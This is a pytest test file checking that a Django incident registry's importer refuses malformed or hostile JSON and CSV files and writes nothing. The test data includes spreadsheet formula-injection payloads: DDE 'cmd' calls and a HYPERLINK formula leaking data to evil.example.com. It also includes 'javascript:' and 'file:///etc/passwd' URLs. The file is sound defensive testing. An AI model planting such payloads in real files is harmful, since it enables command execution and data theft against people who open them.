"""OWASP API10:2023 Unsafe Consumption of APIs: import files are untrusted input.

Files from partners and scrapers go through `import_incidents` and the admin's import. However a
file is broken — wrong encoding, spreadsheet formulas, too large, values out of range, nested to
exhaust the parser — the import refuses it with a problem that names the record or line and the
field, and writes nothing at all: not the valid records beside the bad one, no history, no
change-feed event, no new source or platform, no change to an existing record.
"""

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command

from incidents.interchange import CSV_COLUMNS, document_to_csv_row
from incidents.models import (
    ChangeEvent,
    Citation,
    Contact,
    Incident,
    Participant,
    Platform,
    Source,
)
from incidents.services.importing import import_file
from tests.factories import IncidentFactory, incident_document

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example.com/?leak="&A1,"click")',
    "\t=1+1",
]


@pytest.fixture
def registry(db):
    """What is already there and must stay exactly as it is."""
    IncidentFactory(status="published", external_id="existing-published", title="Kept")
    IncidentFactory(external_id="existing-draft", title="Kept too")


def _state() -> tuple:
    return (
        list(Incident.objects.order_by("pk").values_list("pk", "external_id", "title", "version")),
        Source.objects.count(),
        Platform.objects.count(),
        Contact.objects.count(),
        ChangeEvent.objects.count(),
        Incident.history.count(),
        Participant.history.count(),
        Citation.history.count(),
    )


def _json_file(*documents, **sections) -> bytes:
    return json.dumps({"incidents": list(documents), **sections}, ensure_ascii=False).encode()


def _csv_file(*documents, formula: tuple[int, str, str] | None = None) -> bytes:
    """The interchange CSV of the documents; `formula` = (row, column, raw cell) overrides."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(CSV_COLUMNS)
    for index, document in enumerate(documents):
        row = document_to_csv_row(
            {"id": None, "status": "draft", "retraction_reason": None, **document}
        )
        if formula is not None and formula[0] == index:
            row[CSV_COLUMNS.index(formula[1])] = formula[2]
        writer.writerow(row)
    return out.getvalue().encode()


def _refused(content: bytes, fmt: str | None = None):
    before = _state()
    report = import_file(content, format=fmt)
    assert not report.ok, "the file was accepted"
    assert _state() == before, "the refused file changed the database"
    return report


def _problems(report) -> set[tuple[str, str]]:
    return {(problem.location, problem.field) for problem in report.problems}


# --- encodings ------------------------------------------------------------------------------


def test_a_latin_1_file_is_refused_with_the_line_of_the_bad_byte(registry):
    good, bad = incident_document(), incident_document(title="Caf\u00e9 \u00e0 la mer")
    text = '{"incidents": [\n' + json.dumps(good) + ",\n" + json.dumps(bad, ensure_ascii=False)
    content = (text + "\n]}\n").encode("latin-1")

    report = _refused(content, "json")

    assert [problem.location for problem in report.problems] == ["line 3"]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "cp1252"])
def test_a_file_in_another_encoding_is_refused(registry, codec):
    content = _json_file(incident_document(title="Na\u00efve \u2014 report")).decode()

    report = _refused(content.encode(codec), "json")

    assert len(report.problems) == 1


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_nul_character_is_refused_before_the_database_sees_it(registry, fmt):
    document = incident_document(title="Title\u0000with NUL")
    content = _json_file(document) if fmt == "json" else _csv_file(document)

    report = _refused(content, fmt)

    assert report.problems


def test_bytes_that_are_not_text_at_all_are_refused(registry):
    _refused(bytes(range(256)) * 4)


# --- formulas -------------------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["title", "summary", "location_name", "closest_approach_text"])
def test_a_csv_formula_cell_refuses_the_file_naming_line_and_column(registry, formula, column):
    content = _csv_file(incident_document(), incident_document(), formula=(1, column, formula))

    report = _refused(content, "csv")

    assert _problems(report) == {("line 3", column)}


def test_a_neutralised_formula_is_imported_as_the_text_it_was(registry):
    content = _csv_file(incident_document(external_id="quoted", title="=1+2 is text"))

    report = import_file(content, format="csv")

    assert report.ok, report.problems
    assert Incident.objects.get(external_id="quoted").title == "=1+2 is text"


# --- size -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_file_above_the_import_limit_is_refused_unread(registry, settings, fmt, tmp_path):
    settings.IMPORT_MAX_BYTES = 2000
    documents = [incident_document() for _ in range(5)]
    content = _json_file(*documents) if fmt == "json" else _csv_file(*documents)
    path = tmp_path / f"big.{fmt}"
    path.write_bytes(content)
    assert len(content) > 2000

    report = _refused(str(path))

    assert _problems(report) == {("file", "")}


def test_the_command_refuses_an_oversized_file_and_exits_non_zero(registry, settings, tmp_path):
    settings.IMPORT_MAX_BYTES = 2000
    path = tmp_path / "big.json"
    path.write_bytes(_json_file(*[incident_document() for _ in range(5)]))
    before = _state()
    err = io.StringIO()

    with pytest.raises(CommandError, match="nothing was written"):
        call_command("import_incidents", str(path), stdout=io.StringIO(), stderr=err)

    assert _state() == before
    assert "IMPORT_MAX_BYTES" in err.getvalue()


@pytest.mark.parametrize("depth", [10_000, 200_000])
def test_a_json_file_nested_to_exhaust_the_parser_is_refused(registry, depth):
    _refused(("[" * depth + "]" * depth).encode(), "json")


def test_a_csv_cell_of_many_megabytes_is_refused_or_bounded(registry, settings):
    settings.IMPORT_MAX_BYTES = 1024 * 1024
    content = _csv_file(incident_document(summary="x" * (2 * 1024 * 1024)))

    _refused(content, "csv")


# --- values out of range --------------------------------------------------------------------


def _with(path: str, value) -> dict:
    """A valid document with one value at a dotted path (`participants.0.count`) replaced."""
    document = incident_document()
    target, *keys = path.split(".")
    if not keys:
        document[target] = value
        return document
    node = document[target]
    for key in keys[:-1]:
        node = node[int(key)] if key.isdigit() else node[key]
    last = keys[-1]
    node[int(last) if last.isdigit() else last] = value
    return document


OUT_OF_RANGE = {
    "latitude": ("latitude", 90.0001),
    "longitude": ("longitude", -180.5),
    "future date": ("occurred_on", "2999-01-01"),
    "year 10000": ("occurred_on", "10000-01-01"),
    "not a date": ("occurred_on", "yesterday"),
    "unknown kind": ("kind", "invasion"),
    "unknown region": ("region", "atlantis"),
    "unknown conduct": ("conduct", "rude"),
    "title too long": ("title", "t" * 201),
    "external id too long": ("external_id", "e" * 121),
    "blank title": ("title", "   "),
    "participant count 0": ("participants.0.count", 0),
    "participant count beyond bigint": ("participants.0.count", 10**30),
    "unknown country": ("participants.0.country", "XX"),
    "lower-case country": ("participants.0.country", "cn"),
    "unknown role": ("participants.0.role", "victim"),
    "negative approach": ("details.closest_approach_m", -1.0),
    "source url javascript": ("sources.0.url", "javascript:alert(1)"),
    "source url file": ("sources.0.url", "file:///etc/passwd"),
    "unknown source type": ("sources.0.type", "rumour"),
    "participants not a list": ("participants", {"country": "CN"}),
    "details not an object": ("details", "fast"),
}


@pytest.mark.parametrize("case", OUT_OF_RANGE)
def test_a_value_out_of_range_refuses_the_file_naming_record_and_field(registry, case):
    path, value = OUT_OF_RANGE[case]
    content = _json_file(incident_document(), _with(path, value))

    report = _refused(content, "json")

    locations = {problem.location for problem in report.problems}
    fields = {problem.field for problem in report.problems}
    assert locations == {"record 1"}, report.problems
    top = path.split(".")[0]
    assert any(field == top or field.startswith((f"{top}.", f"{top}[")) for field in fields), (
        report.problems
    )


@pytest.mark.parametrize("constant", [b"NaN", b"Infinity", b"-Infinity", b"1e999"])
def test_json_nan_and_infinity_are_refused(registry, constant):
    content = _json_file(incident_document()).replace(
        b'"latitude": null', b'"latitude": ' + constant
    )

    _refused(content, "json")


def test_an_upsert_of_an_existing_record_in_a_refused_file_changes_nothing(registry):
    update = incident_document(external_id="existing-published", title="Overwritten")
    content = _json_file(update, _with("latitude", 200.0))

    _refused(content, "json")

    assert Incident.objects.get(external_id="existing-published").title == "Kept"


def test_a_refused_file_creates_no_platform_or_contact_either(registry):
    content = _json_file(
        _with("latitude", 200.0),
        platforms=[{"slug": "new-one", "name": "New", "category": "fighter", "domain": "air"}],
        contacts=[
            {
                "external_id": "c-1",
                "occurred_on": "2023-01-01",
                "kind": "call",
                "title": "Call",
                "summary": "",
                "parties": ["US", "CN"],
                "sources": [],
            }
        ],
    )

    _refused(content, "json")


def test_every_bad_record_of_a_file_is_reported_at_once(registry):
    content = _json_file(
        _with("latitude", 200.0), incident_document(), _with("participants.0.count", 0)
    )

    report = _refused(content, "json")

    assert {problem.location for problem in report.problems} == {"record 0", "record 2"}
